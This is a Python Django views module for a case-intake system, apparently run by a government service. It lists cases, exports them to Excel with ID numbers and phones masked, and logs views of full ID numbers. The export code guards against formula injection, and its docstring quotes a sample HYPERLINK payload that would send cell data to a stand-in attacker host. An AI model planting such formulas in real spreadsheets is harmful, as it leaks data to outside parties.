"""Lists of matters (mine, all), the Excel export, the matter page and the audited full-ID view."""

from __future__ import annotations

import tempfile
from typing import Any

from django.contrib.auth.decorators import login_required
from django.core.exceptions import PermissionDenied
from django.http import FileResponse, Http404, HttpRequest, HttpResponse, JsonResponse
from django.shortcuts import render
from django.utils import timezone
from django.views.decorators.http import require_POST
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from governance.api import http_status_for
from governance.errors import ApplicationError
from governance.models import Grid
from governance.replica import reads_from_replica
from governance.roles import MAY_SEE_DISTRICT_MATTERS, MAY_SEE_FULL_ID, may, user_roles
from governance.selectors import grid_workers_to_verify
from intake import hooks as intake_hooks
from intake import selectors
from intake.choices import CaseStatus, Channel
from intake.models import CaseParty
from intake.services import party_full_id_view
from intake.validators import mask_id_number, mask_phone

EXPORT_MAX_ROWS = 50_000


def _require_any_role(request: HttpRequest) -> None:
    if not user_roles(request.user):
        raise PermissionDenied


def _filter_choices() -> dict[str, Any]:
    return {
        "statuses": CaseStatus.choices,
        "channels": Channel.choices,
        "category_tree": selectors.categories_top_level(),
        "towns": Grid.objects.filter(level="town", active=True).order_by("code").only("id", "name"),
    }


def _page_number(request: HttpRequest) -> int:
    value = request.GET.get("page", "1")
    return int(value) if value.isascii() and value.isdigit() else 1


def _query_without_page(request: HttpRequest) -> str:
    query = request.GET.copy()
    query.pop("page", None)
    return query.urlencode()


@login_required
def my_cases(request: HttpRequest) -> HttpResponse:
    _require_any_role(request)
    filters = selectors.CaseFilters.from_query(request.GET)
    filters.first_receiver = request.user.pk
    page = selectors.case_list(actor=request.user, filters=filters, page=_page_number(request))
    now = timezone.now()
    selectors.with_clocks(page.rows, now=now)
    context = {"page": page, "filters": filters, "query": _query_without_page(request), "mine": True,
               "now": now, **_filter_choices()}
    return render(request, "intake/case_list.html", context)


@login_required
def case_list(request: HttpRequest) -> HttpResponse:
    _require_any_role(request)
    filters = selectors.CaseFilters.from_query(request.GET)
    page = selectors.case_list(actor=request.user, filters=filters, page=_page_number(request))
    now = timezone.now()
    selectors.with_clocks(page.rows, now=now)
    context = {"page": page, "filters": filters, "query": _query_without_page(request), "mine": False,
               "now": now, **_filter_choices()}
    return render(request, "intake/case_list.html", context)


EXPORT_COLUMNS = ["事项编号", "登记时间", "来源渠道", "事项类别", "标题", "申请人", "身份证号", "联系电话",
                  "所属镇", "所属网格", "状态", "预计答复", "首接责任人", "受理窗口"]


def _text_cells(sheet: Any, values: list[str]) -> list[WriteOnlyCell]:
    """Every value as a text cell: openpyxl makes a string that starts with "=" a live formula, so a
    title pushed as `=HYPERLINK("http://evil.example/"&B2,"详情")` would run in the reader's Excel.
    A cell typed as a string is never evaluated, whatever it starts with (=, +, -, @)."""
    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        cells.append(cell)
    return cells


@login_required
@reads_from_replica
def case_export(request: HttpRequest) -> HttpResponse:
    """The filtered list as .xlsx: rows are streamed from the database into a write-only workbook
    (constant memory), ID numbers and phones masked."""
    _require_any_role(request)
    filters = selectors.CaseFilters.from_query(request.GET)
    if request.GET.get("mine"):
        filters.first_receiver = request.user.pk
    book = Workbook(write_only=True)
    sheet = book.create_sheet("事项")
    sheet.append(EXPORT_COLUMNS)
    status_labels, channel_labels = dict(CaseStatus.choices), dict(Channel.choices)
    local = timezone.localtime
    for case in selectors.case_export_rows(actor=request.user, filters=filters, limit=EXPORT_MAX_ROWS):
        applicant = case.applicant
        receiver = case.first_receiver
        sheet.append(_text_cells(sheet, [
            case.code,
            local(case.registered_at).strftime("%Y-%m-%d %H:%M"),
            str(channel_labels.get(case.channel, case.channel)),
            str(case.category),
            case.title,
            applicant.name if applicant else "",
            mask_id_number(applicant.id_number) if applicant else "",
            mask_phone(applicant.phone) if applicant else "",
            case.town.name if case.town else "",
            case.grid.name if case.grid else "",
            str(status_labels.get(case.status, case.status)),
            local(case.expected_answer_at).strftime("%Y-%m-%d") if case.expected_answer_at else "",
            receiver.get_full_name() or receiver.get_username(),
            str(case.window) if case.window else "",
        ]))
    handle = tempfile.TemporaryFile()  # noqa: SIM115 - handed to FileResponse, which closes it
    book.save(handle)
    handle.seek(0)
    filename = f"事项清单-{timezone.localdate():%Y%m%d}.xlsx"
    return FileResponse(handle, as_attachment=True, filename=filename,
                        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


@login_required
def case_detail(request: HttpRequest, code: str) -> HttpResponse:
    case = selectors.case_get_for_actor(actor=request.user, pk_or_code=code)
    context = {
        "case": case,
        "parties": selectors.case_parties(case=case),
        "attachments": list(case.attachments.select_related("uploaded_by").order_by("id")),
        "links": selectors.case_links(case=case),
        "timeline": selectors.case_timeline(case=case),
        "can_see_full_id": may(request.user, MAY_SEE_FULL_ID),
        "receiver_phone": getattr(getattr(case.first_receiver, "profile", None), "phone", ""),
        # The work page (assignments, revisit, close) is the center's: its people and the first receiver.
        "can_work": may(request.user, MAY_SEE_DISTRICT_MATTERS) or case.first_receiver_id == request.user.pk,
        "work_url": intake_hooks.case_work_url(case_id=case.pk),
        "panels": intake_hooks.case_panels(case=case, user=request.user, request=request),
        "clocks": selectors.with_clocks([case])[0].clocks,
        "verifiers": list(grid_workers_to_verify(grid=case.grid)) if case.grid else [],
    }
    return render(request, "intake/case_detail.html", context)


@login_required
@require_POST
def party_full_id(request: HttpRequest, code: str, party_id: int) -> JsonResponse:
    """The "show full" button: the full ID number, logged as a sensitive view."""
    case = selectors.case_get_for_actor(actor=request.user, pk_or_code=code)
    link = CaseParty.objects.select_related("party").filter(case=case, party_id=party_id).first()
    if link is None:
        raise Http404
    try:
        number = party_full_id_view(actor=request.user, party=link.party, case=case,
                                    page=request.headers.get("Referer", request.path))
    except ApplicationError as error:
        return JsonResponse(error.as_dict(), status=http_status_for(error), json_dumps_params={"ensure_ascii": False})
    return JsonResponse({"id_number": number})

